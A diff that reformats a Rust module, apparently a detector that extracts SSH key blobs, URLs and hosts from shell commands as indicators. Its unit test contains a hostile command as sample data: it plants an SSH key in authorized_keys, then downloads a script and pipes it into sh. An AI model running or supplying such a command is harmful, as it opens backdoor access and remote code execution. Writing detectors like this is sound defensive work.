@@ -7,7 +7,8 @@ const SHORTEST_BLOB: usize = 60;
 /// Before the host of a link.
 const SCHEMES: [&str; 4] = ["http://", "https://", "ftp://", "tftp://"];
 /// What ends a link in a shell.
-const ENDS: &[char] = &[' ', '\t', '\n', '\r', '"', '\'', ';', '|', '&', ')', '(', '>', '<', '`', '\\', '$', ','];
+const ENDS: &[char] =
+    &[' ', '\t', '\n', '\r', '"', '\'', ';', '|', '&', ')', '(', '>', '<', '`', '\\', '$', ','];
 
 /// Something that names an author.
 #[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
@@ -27,8 +28,14 @@ pub fn indicators(command: &str) -> Vec<Indicator<'_>> {
         for (at, _) in command.match_indices(kind) {
             let rest = &command[at + kind.len()..];
             // ecdsa-sha2-nistp256 and its like have the size between type and blob.
-            let rest = if kind.ends_with('p') { rest.trim_start_matches(|c: char| c.is_ascii_digit()).trim_start_matches(' ') } else { rest };
-            let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))).unwrap_or(rest.len());
+            let rest = if kind.ends_with('p') {
+                rest.trim_start_matches(|c: char| c.is_ascii_digit()).trim_start_matches(' ')
+            } else {
+                rest
+            };
+            let end = rest
+                .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=')))
+                .unwrap_or(rest.len());
             if end >= SHORTEST_BLOB {
                 found.push(Indicator::Key(&rest[..end]));
             }
@@ -37,7 +44,8 @@ pub fn indicators(command: &str) -> Vec<Indicator<'_>> {
     for scheme in SCHEMES {
         let mut end = 0;
         for (at, _) in command.match_indices(scheme) {
-            // A link within a link ends where that does: each character is looked at once, however many links there are.
+            // A link within a link ends where that does: each character is looked at once, however many links
+            // there are.
             if at >= end {
                 end = command[at..].find(ENDS).map_or(command.len(), |length| at + length);
             }
@@ -70,8 +78,17 @@ mod tests {
     #[test]
     fn authors_are_named_by_keys_links_and_hosts() {
         let blob = "A".repeat(68);
-        let command = format!("echo \"ssh-ed25519 {blob} me@x\" >> ~/.ssh/authorized_keys; wget http://u:p@203.0.113.7:8080/a.sh -O- | sh");
-        assert_eq!(indicators(&command), [Indicator::Key(blob.as_str()), Indicator::Url("http://u:p@203.0.113.7:8080/a.sh"), Indicator::Host("203.0.113.7")]);
+        let command = format!(
+            "echo \"ssh-ed25519 {blob} me@x\" >> ~/.ssh/authorized_keys; wget http://u:p@203.0.113.7:8080/a.sh -O- | sh"
+        );
+        assert_eq!(
+            indicators(&command),
+            [
+                Indicator::Key(blob.as_str()),
+                Indicator::Url("http://u:p@203.0.113.7:8080/a.sh"),
+                Indicator::Host("203.0.113.7")
+            ]
+        );
         assert_eq!(indicators(&format!("ecdsa-sha2-nistp256 {blob}")), [Indicator::Key(blob.as_str())]);
         assert_eq!(indicators("ssh-rsa AAAA; http:// x; https://"), []);
         assert_eq!(host("http://[2001:db8::1]:80/x"), Some("2001:db8::1"));
